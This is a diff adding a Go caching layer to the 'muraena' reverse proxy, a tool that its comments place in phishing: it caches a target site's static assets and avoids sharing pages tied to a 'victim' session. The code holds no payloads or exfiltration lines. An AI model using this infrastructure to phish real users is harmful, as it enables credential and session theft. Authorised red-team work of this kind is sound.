@@ -0,0 +1,336 @@
+package proxy
+
+import (
+	"bytes"
+	"io"
+	"io/ioutil"
+	"mime"
+	"net/http"
+	"path"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/muraenateam/muraena/log"
+	"github.com/muraenateam/muraena/session"
+)
+
+// upstreamCache is a shared HTTP cache of the target static assets.
+// It honors the Cache-Control and Expires headers of the upstream responses and revalidates stale
+// entries using ETag and Last-Modified, reducing the requests sent to the target.
+type upstreamCache struct {
+	entries     *lru
+	maxBodySize int
+	// vary keeps the request headers listed in the Vary response header of each URL
+	vary *lru
+}
+
+type cachedResponse struct {
+	StatusCode int
+	Header     http.Header
+	Body       []byte
+	Expires    time.Time
+}
+
+// assets is the upstream cache shared by all the proxies, nil if disabled
+var assets *upstreamCache
+
+// newUpstreamCache returns the upstream cache defined in the configuration, nil if disabled
+func newUpstreamCache(sess *session.Session) *upstreamCache {
+	config := sess.Config.Proxy.Cache
+	if !config.Enabled {
+		return nil
+	}
+
+	return &upstreamCache{
+		entries:     newLRU(config.Size),
+		vary:        newLRU(config.Size),
+		maxBodySize: config.MaxBodySize,
+	}
+}
+
+// cachingTransport serves the requests from the upstream cache when possible
+type cachingTransport struct {
+	cache *upstreamCache
+	next  http.RoundTripper
+}
+
+// RoundTrip implements the http.RoundTripper interface
+func (t *cachingTransport) RoundTrip(req *http.Request) (*http.Response, error) {
+	if !t.cache.cacheableRequest(req) {
+		return t.next.RoundTrip(req)
+	}
+
+	key := t.cache.key(req)
+	var stale *cachedResponse
+	if value, ok := t.cache.entries.Get(key); ok {
+		entry := value.(*cachedResponse)
+		if time.Now().Before(entry.Expires) && !noCache(req.Header) {
+			return entry.response(req), nil
+		}
+
+		// Revalidate the stale entry
+		stale = entry
+		req = req.Clone(req.Context())
+		if etag := entry.Header.Get("ETag"); etag != "" {
+			req.Header.Set("If-None-Match", etag)
+		}
+		if modified := entry.Header.Get("Last-Modified"); modified != "" {
+			req.Header.Set("If-Modified-Since", modified)
+		}
+	}
+
+	resp, err := t.next.RoundTrip(req)
+	if err != nil {
+		return nil, err
+	}
+
+	if stale != nil && resp.StatusCode == http.StatusNotModified {
+		resp.Body.Close()
+
+		entry := *stale
+		entry.Header = stale.Header.Clone()
+		for _, h := range []string{"Cache-Control", "Expires", "Date", "ETag"} {
+			if v := resp.Header.Get(h); v != "" {
+				entry.Header.Set(h, v)
+			}
+		}
+
+		entry.Expires, _ = freshness(entry.Header)
+		t.cache.entries.Add(key, &entry)
+
+		return entry.response(req), nil
+	}
+
+	t.cache.store(req, resp)
+	return resp, nil
+}
+
+// cacheableRequest checks if the request can be served from the cache
+func (c *upstreamCache) cacheableRequest(req *http.Request) bool {
+	if req.Method != http.MethodGet || req.Header.Get("Range") != "" {
+		return false
+	}
+
+	return !strings.Contains(strings.ToLower(req.Header.Get("Cache-Control")), "no-store")
+}
+
+// key returns the cache key of the request, including the values of the headers the response varies on
+func (c *upstreamCache) key(req *http.Request) string {
+	url := req.URL.String()
+
+	key := url + "|" + req.Header.Get("Accept-Encoding")
+	if value, ok := c.vary.Get(url); ok {
+		for _, h := range value.([]string) {
+			key += "|" + req.Header.Get(h)
+		}
+	}
+
+	return key
+}
+
+// store adds the response to the cache if it is allowed to
+func (c *upstreamCache) store(req *http.Request, resp *http.Response) {
+	if resp.StatusCode != http.StatusOK || len(resp.Header.Values("Set-Cookie")) > 0 {
+		return
+	}
+
+	// Event streams never end, they cannot be buffered
+	if strings.HasPrefix(strings.ToLower(resp.Header.Get("Content-Type")), "text/event-stream") {
+		return
+	}
+
+	cc := strings.ToLower(resp.Header.Get("Cache-Control"))
+	if strings.Contains(cc, "no-store") || strings.Contains(cc, "private") || strings.Contains(cc, "no-cache") {
+		return
+	}
+
+	// Only the static assets are shared: the pages may carry the data of the victim
+	if !staticAsset(req, resp) {
+		return
+	}
+
+	// Responses to the requests bound to a victim session are shared only if explicitly public
+	if (req.Header.Get("Authorization") != "" || req.Header.Get("Cookie") != "") && !strings.Contains(cc, "public") {
+		return
+	}
+
+	var vary []string
+	for _, v := range resp.Header.Values("Vary") {
+		for _, h := range strings.Split(v, ",") {
+			h = http.CanonicalHeaderKey(strings.TrimSpace(h))
+			if h == "*" || h == "Cookie" {
+				return
+			}
+			if h != "" && h != "Accept-Encoding" {
+				vary = append(vary, h)
+			}
+		}
+	}
+
+	// Stale responses are stored only if they can be revalidated
+	expires, ok := freshness(resp.Header)
+	if !ok && resp.Header.Get("ETag") == "" && resp.Header.Get("Last-Modified") == "" {
+		return
+	}
+
+	if resp.ContentLength > int64(c.maxBodySize) {
+		return
+	}
+
+	body, err := ioutil.ReadAll(io.LimitReader(resp.Body, int64(c.maxBodySize)+1))
+	if err != nil {
+		resp.Body = ioutil.NopCloser(io.MultiReader(bytes.NewReader(body), resp.Body))
+		return
+	}
+
+	if len(body) > c.maxBodySize {
+		resp.Body = ioutil.NopCloser(io.MultiReader(bytes.NewReader(body), resp.Body))
+		return
+	}
+	resp.Body.Close()
+	resp.Body = ioutil.NopCloser(bytes.NewReader(body))
+
+	c.vary.Add(req.URL.String(), vary)
+	c.entries.Add(c.key(req), &cachedResponse{
+		StatusCode: resp.StatusCode,
+		Header:     resp.Header.Clone(),
+		Body:       body,
+		Expires:    expires,
+	})
+}
+
+// staticExtensions are the extensions of the static assets
+var staticExtensions = map[string]bool{
+	".js": true, ".mjs": true, ".css": true, ".map": true, ".wasm": true,
+	".png": true, ".jpg": true, ".jpeg": true, ".gif": true, ".webp": true, ".avif": true, ".svg": true, ".ico": true,
+	".woff": true, ".woff2": true, ".ttf": true, ".otf": true, ".eot": true,
+	".mp3": true, ".mp4": true, ".webm": true,
+}
+
+// staticContentTypes are the content types, or their prefixes, of the static assets
+var staticContentTypes = []string{
+	"text/css", "text/javascript", "application/javascript", "application/x-javascript", "application/wasm",
+	"image/", "font/", "audio/", "video/",
+}
+
+// staticAsset checks if the response is a static asset, by the extension of the path or by its content type
+func staticAsset(req *http.Request, resp *http.Response) bool {
+	if staticExtensions[strings.ToLower(path.Ext(req.URL.Path))] {
+		return true
+	}
+
+	mediaType, _, err := mime.ParseMediaType(resp.Header.Get("Content-Type"))
+	if err != nil {
+		return false
+	}
+	for _, t := range staticContentTypes {
+		if strings.HasPrefix(mediaType, t) {
+			return true
+		}
+	}
+	return false
+}
+
+// Purge removes the cached responses whose URL starts with prefix, or all of them if prefix is empty
+func (c *upstreamCache) Purge(prefix string) int {
+	c.vary.Remove(func(key string) bool { return strings.HasPrefix(key, prefix) })
+	return c.entries.Remove(func(key string) bool { return strings.HasPrefix(key, prefix) })
+}
+
+// response builds a new http.Response from the cached one
+func (e *cachedResponse) response(req *http.Request) *http.Response {
+	header := e.Header.Clone()
+	if header.Get("Content-Encoding") == "" {
+		header.Set("Content-Length", strconv.Itoa(len(e.Body)))
+	}
+
+	return &http.Response{
+		Status:        strconv.Itoa(e.StatusCode) + " " + http.StatusText(e.StatusCode),
+		StatusCode:    e.StatusCode,
+		Proto:         "HTTP/1.1",
+		ProtoMajor:    1,
+		ProtoMinor:    1,
+		Header:        header,
+		Body:          ioutil.NopCloser(bytes.NewReader(e.Body)),
+		ContentLength: int64(len(e.Body)),
+		Request:       req,
+	}
+}
+
+// noCache checks if the request asks for a revalidation of the cached response
+func noCache(header http.Header) bool {
+	cc := strings.ToLower(header.Get("Cache-Control"))
+	return strings.Contains(cc, "no-cache") || strings.Contains(cc, "max-age=0") ||
+		strings.ToLower(header.Get("Pragma")) == "no-cache"
+}
+
+// freshness returns the expiration time of a response, from the Cache-Control max-age (or s-maxage) directive
+// or the Expires header. The second value is false if the response does not define an explicit freshness lifetime.
+func freshness(header http.Header) (time.Time, bool) {
+	now := time.Now()
+
+	maxAge := -1
+	for _, directive := range strings.Split(header.Get("Cache-Control"), ",") {
+		directive = strings.ToLower(strings.TrimSpace(directive))
+
+		var value string
+		switch {
+		case strings.HasPrefix(directive, "s-maxage="):
+			value = strings.TrimPrefix(directive, "s-maxage=")
+		case strings.HasPrefix(directive, "max-age=") && maxAge == -1:
+			value = strings.TrimPrefix(directive, "max-age=")
+		default:
+			continue
+		}
+
+		if seconds, err := strconv.Atoi(strings.Trim(value, `"`)); err == nil {
+			maxAge = seconds
+		}
+	}
+
+	if maxAge >= 0 {
+		if age, err := strconv.Atoi(header.Get("Age")); err == nil {
+			maxAge -= age
+		}
+		return now.Add(time.Duration(maxAge) * time.Second), maxAge > 0
+	}
+
+	if expires := header.Get("Expires"); expires != "" {
+		t, err := http.ParseTime(expires)
+		if err != nil {
+			return now, false
+		}
+
+		// Compensate the clock skew with the upstream
+		if date, err := http.ParseTime(header.Get("Date")); err == nil {
+			t = now.Add(t.Sub(date))
+		}
+		return t, t.After(now)
+	}
+
+	return now, false
+}
+
+// serveCacheAdmin starts the administration endpoint used to purge the upstream cache
+func serveCacheAdmin(sess *session.Session) {
+	config := sess.Config.Proxy.Cache.Admin
+	if config.Listen == "" {
+		return
+	}
+
+	mux := http.NewServeMux()
+	mux.HandleFunc("/purge", func(w http.ResponseWriter, r *http.Request) {
+		if !allowMethods(w, r, http.MethodPost, http.MethodDelete) {
+			return
+		}
+
+		prefix := r.URL.Query().Get("url")
+		purged := assets.Purge(prefix)
+		log.Info("Upstream cache: purged %d entries matching %q", purged, prefix)
+
+		writeJSON(w, map[string]int{"purged": purged, "entries": assets.entries.Len()})
+	})
+
+	serveAdmin(sess, "Upstream cache admin", config.Listen, config.Token, mux)
+}